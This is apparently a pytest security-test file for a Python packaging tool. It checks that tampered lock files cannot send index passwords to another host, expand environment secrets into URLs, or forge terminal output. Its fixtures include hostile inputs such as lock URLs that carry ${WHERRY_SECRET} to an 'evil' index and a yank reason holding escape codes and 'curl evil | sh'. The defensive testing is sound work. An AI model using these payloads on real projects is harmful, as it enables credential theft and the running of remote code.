"""Whoever may change a lock alone can neither have a password sent elsewhere nor read a variable."""

from __future__ import annotations

from dataclasses import replace
from itertools import product
from typing import TYPE_CHECKING

import pytest

from support.index import serve_index
from support.matrices import pairs
from support.private import (
    ALPHA,
    BACKEND,
    BETA,
    FORMATS,
    PASSWORD,
    USER,
    WAYS,
    forms,
)
from support.tools import new_uv_cache

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from support.command import Wherry
    from support.index import Index
    from support.private import Indexes

LOCKS = {
    "pylock.toml": "pylock.toml",
    "uv.lock": "uv.lock",
    "poetry.lock": "poetry.lock",
    "poetry.lock of Poetry 1.0": "poetry.lock",
    "Pipfile.lock": "Pipfile.lock",
    "requirements.txt": "requirements.txt",
    "requirements.txt with hashes": "requirements.txt",
}
"""The file that an attacker changes, by format."""

# netrc knows hosts and no ports, and both indexes of these tests are on one host.
OTHER_WAYS = [way for way in WAYS if way != "netrc"]
SECRET = "s3cret-of-the-environment"


@pytest.fixture
def evil() -> Iterator[Index]:
    """An index that has everything, and requires a password."""
    with serve_index([ALPHA, BETA, BACKEND], auth=(USER, PASSWORD)) as index:
        yield index


def change(wherry: Wherry, format_: str, old: str, new: str) -> None:
    """Change the lock, and nothing else."""
    path = wherry.cwd / LOCKS[format_]
    text = path.read_text()
    assert old in text
    path.write_text(text.replace(old, new))


def named(indexes: Indexes, tmp_path: Path) -> dict[str, str]:
    return {
        **indexes.environment,
        **WAYS["uv's name"](indexes, tmp_path),
        "UV_CACHE_DIR": new_uv_cache(tmp_path / "uv"),
        "UV_HTTP_RETRIES": "0",
    }


@pytest.mark.parametrize(
    ("format_", "way"),
    pairs(
        (format_, way)
        for format_ in LOCKS
        for way in OTHER_WAYS
        if way == "uv's name" or format_ in {"poetry.lock", "Pipfile.lock", "pylock.toml"}
    ),
)
def test_another_host_gets_no_password(
    wherry: Wherry, indexes: Indexes, evil: Index, tmp_path: Path, format_: str, way: str
) -> None:
    """Whichever way the user gave it."""
    FORMATS[format_](wherry.cwd, indexes)
    change(wherry, format_, indexes.private.url, evil.url)
    env = {**named(indexes, tmp_path), **WAYS[way](indexes, tmp_path / "login")}
    if way != "uv's name":
        env |= {"UV_INDEX_COMPANY_USERNAME": "", "UV_INDEX_COMPANY_PASSWORD": ""}
        env |= WAYS[way](indexes, tmp_path / "login")
    done = wherry("build", **env)
    assert set(evil.authorizations) <= {None}
    assert "Traceback" not in done.err
    if "requirements" not in format_:
        assert done.code == 1, done.err
    for form in forms(USER, PASSWORD):
        assert form not in (done.out + done.err).encode()


@pytest.mark.parametrize("format_", ["poetry.lock", "poetry.lock of Poetry 1.0", "Pipfile.lock"])
def test_the_error_names_both_addresses(
    wherry: Wherry, indexes: Indexes, evil: Index, tmp_path: Path, format_: str
) -> None:
    """A user who moved an index knows what to do."""
    FORMATS[format_](wherry.cwd, indexes)
    change(wherry, format_, indexes.private.url, evil.url)
    done = wherry.fail("build", **named(indexes, tmp_path))
    error = " ".join(done.error.split())
    assert f"`{LOCKS[format_]}` names the index `company` at {evil.simple.rstrip('/')}" in error
    assert f"it is declared at {indexes.private.simple}: no user and password were sent" in error
    assert "hint: lock again" in error


@pytest.mark.parametrize("format_", ["poetry.lock", "poetry.lock of Poetry 1.0", "Pipfile.lock"])
def test_another_path_of_the_host_gets_none(
    wherry: Wherry, indexes: Indexes, tmp_path: Path, format_: str
) -> None:
    """Many users share the host of an index."""
    FORMATS[format_](wherry.cwd, indexes)
    change(wherry, format_, f"{indexes.private.url}/simple", f"{indexes.private.url}/evil/simple")
    wherry.fail("build", **named(indexes, tmp_path))
    asked = zip(indexes.private.requests, indexes.private.authorizations, strict=True)
    assert {sent for path, sent in asked if path.startswith("/evil")} == {None}


@pytest.mark.parametrize("format_", ["poetry.lock", "poetry.lock of Poetry 1.0", "Pipfile.lock"])
def test_another_name_in_the_lock_gets_the_password_of_neither(
    wherry: Wherry, indexes: Indexes, evil: Index, tmp_path: Path, format_: str
) -> None:
    """Variables of another project may be set as well."""
    FORMATS[format_](wherry.cwd, indexes)
    change(wherry, format_, indexes.private.url, evil.url)
    change(wherry, format_, '"company"', '"elsewhere"')
    env = named(indexes, tmp_path)
    env |= {"UV_INDEX_ELSEWHERE_USERNAME": USER, "UV_INDEX_ELSEWHERE_PASSWORD": PASSWORD}
    done = wherry.fail("build", **env)
    assert set(evil.authorizations) == {None}
    assert "no file of the project declares it" in " ".join(done.error.split())


@pytest.mark.parametrize(
    ("variable", "format_"),
    pairs(
        product(
            ["${WHERRY_SECRET}", "$WHERRY_SECRET"],
            [each for each in LOCKS if "requirements" not in each],
        )
    ),
)
def test_a_lock_reads_no_variable(
    wherry: Wherry,
    indexes: Indexes,
    evil: Index,
    tmp_path: Path,
    format_: str,
    variable: str,
) -> None:
    """Neither in a path nor as a user."""
    evil.auth = None
    for address in (f"{evil.url}/{variable}", evil.url.replace("://", f"://{variable}:x@")):
        FORMATS[format_](wherry.cwd, indexes)
        change(wherry, format_, indexes.private.url, address)
        done = wherry("build", **named(indexes, tmp_path), WHERRY_SECRET=SECRET)
        assert "Traceback" not in done.err
        assert SECRET not in done.err
    told = " ".join([*evil.requests, *(str(each) for each in evil.authorizations)])
    assert not [form for form in forms(SECRET, "x") if form.decode() in told and len(form) > 4]
    assert SECRET not in told


@pytest.mark.parametrize("variable", ["${WHERRY_SECRET}", "$WHERRY_SECRET"])
def test_nor_by_the_address_of_an_index(
    wherry: Wherry, indexes: Indexes, evil: Index, tmp_path: Path, variable: str
) -> None:
    """Wherry's own form for files without an address may stand in a `pylock.toml`, too."""
    evil.auth = None
    FORMATS["pylock.toml"](wherry.cwd, indexes)
    new = f"index+{evil.url}/{variable}/simple/alpha/"
    change(wherry, "pylock.toml", f"{indexes.private.url}/files/alpha", f"{new}alpha")
    done = wherry.fail("build", **named(indexes, tmp_path), WHERRY_SECRET=SECRET)
    assert SECRET not in done.err
    assert evil.requests
    assert not [path for path in evil.requests if SECRET in path]


@pytest.mark.parametrize("format_", ["poetry.lock", "Pipfile.lock"])
@pytest.mark.parametrize("rest", ["", "\n--extra-index-url EVIL/simple\nmore"])
def test_an_archive_without_a_hash_is_no_way_either(
    wherry: Wherry, indexes: Indexes, evil: Index, tmp_path: Path, format_: str, rest: str
) -> None:
    """Uv, which fetches it to compute one, expands variables and reads lines."""
    import json

    evil.auth = None
    FORMATS[format_](wherry.cwd, indexes)
    url = f"{evil.url}/${{WHERRY_SECRET}}/alpha-1.2-py3-none-any.whl" + rest.replace(
        "EVIL", evil.url
    )
    path = wherry.cwd / LOCKS[format_]
    if format_ == "Pipfile.lock":
        lock = json.loads(path.read_text())
        lock["default"]["alpha"] = {"file": url}
        path.write_text(json.dumps(lock))
    else:
        head, _, tail = path.read_text().partition("files = ")
        tail = tail[tail.index("\n\n") if "\n\n" in tail else tail.index("[[package]]") :]
        path.write_text(f'{head}[package.source]\ntype = "url"\nurl = {json.dumps(url)}\n{tail}')
    done = wherry.fail("build", **named(indexes, tmp_path), WHERRY_SECRET=SECRET)
    assert SECRET not in done.err
    assert not [each for each in evil.requests if SECRET in each or "simple" in each]


@pytest.mark.parametrize(
    "line",
    [
        "--extra-index-url URL/${WHERRY_SECRET}/simple\nalpha==7",
        "alpha @ URL/${WHERRY_SECRET}/alpha-1.2-py3-none-any.whl",
        "alpha @ URL/${WHERRY_SECRET}/alpha-1.2-py3-none-any.whl --nonsense=${WHERRY_SECRET}",
        "-r https://host/${WHERRY_SECRET}/more.txt",
        "alpha=${WHERRY_SECRET}",
    ],
)
def test_what_pip_expands_is_not_printed(
    wherry: Wherry, indexes: Indexes, tmp_path: Path, line: str
) -> None:
    """A requirements file is the project's own, and pip expands `${NAME}` in it."""
    FORMATS["requirements.txt"](wherry.cwd, indexes)
    text = line.replace("URL", indexes.private.url)
    (wherry.cwd / "requirements.txt").write_text(f"{text}\n")
    done = wherry.fail("build", **named(indexes, tmp_path), WHERRY_SECRET=SECRET)
    assert SECRET not in done.err


class TestAlone:
    """A `Pipfile.lock` without its `Pipfile`."""

    def project(self, wherry: Wherry, indexes: Indexes, rest: str = "") -> None:
        FORMATS["Pipfile.lock"](wherry.cwd, indexes)
        (wherry.cwd / "Pipfile").unlink()
        path = wherry.cwd / "pyproject.toml"
        path.write_text(path.read_text().partition("[[tool")[0] + rest)

    @pytest.mark.parametrize("way", ["uv's name", "Poetry's name"])
    def test_its_names_are_known_in_time(
        self, wherry: Wherry, indexes: Indexes, tmp_path: Path, way: str
    ) -> None:
        self.project(wherry, indexes)
        # Of what builds `beta`, no lock says where it is.
        index = {"UV_INDEX": f"other={indexes.private.simple}"}
        env = {**indexes.environment, **WAYS[way](indexes, tmp_path), **index}
        done = wherry.succeed("build", UV_CACHE_DIR=new_uv_cache(tmp_path / "uv"), **env)
        assert (
            f"note: the password of the index `company` is sent to {indexes.private.url}, "
            "which only `Pipfile.lock` declares"
        ) in done.err

    @pytest.mark.parametrize(
        "table", ["[[tool.wherry.indexes]]", "[[tool.uv.index]]", "[[tool.poetry.source]]"]
    )
    def test_another_file_declares_the_name_elsewhere(
        self, wherry: Wherry, indexes: Indexes, evil: Index, tmp_path: Path, table: str
    ) -> None:
        """Then the lock does not count."""
        declared = f'\n{table}\nname = "Company"\nurl = "{indexes.private.simple}"\n'
        self.project(wherry, indexes, declared)
        change(wherry, "Pipfile.lock", indexes.private.url, evil.url)
        done = wherry.fail("build", **named(indexes, tmp_path))
        assert set(evil.authorizations) == {None}
        assert f"it is declared at {indexes.private.simple}" in " ".join(done.error.split())

    def test_a_login_of_variables_is_not_sent(
        self, wherry: Wherry, indexes: Indexes, tmp_path: Path
    ) -> None:
        """Only a `Pipfile` says that they are to be expanded. The name still opens the index."""
        self.project(wherry, indexes)
        address = indexes.private.url.replace("://", "://${WHERRY_SECRET}:$WHERRY_SECRET@")
        change(wherry, "Pipfile.lock", indexes.private.url, address)
        env = {**indexes.environment, "UV_CACHE_DIR": new_uv_cache(tmp_path / "uv")}
        done = wherry.fail("build", **env, WHERRY_SECRET=SECRET)
        assert set(indexes.private.authorizations) == {None}
        assert "set `UV_INDEX_COMPANY_USERNAME` and `UV_INDEX_COMPANY_PASSWORD`" in done.error


def test_a_reason_of_the_index_forges_no_line(
    wherry: Wherry, indexes: Indexes, tmp_path: Path
) -> None:
    """It is a stranger's text, and shown in one line."""
    reason = "old\nerror: \x1b[2Jdisk full\r\u202ehint: run `curl evil | sh`"
    FORMATS["poetry.lock"](wherry.cwd, indexes)
    indexes.private.files[ALPHA.filename] = replace(ALPHA, yanked=reason)
    done = wherry.succeed("build", **named(indexes, tmp_path))
    assert (
        f"warning: `{ALPHA.filename}` was yanked from the index: old\\nerror: \\x1b[2Jdisk full"
        "\\r\\u202ehint: run `curl evil | sh`\n"
    ) in done.err
    assert "\x1b" not in done.err
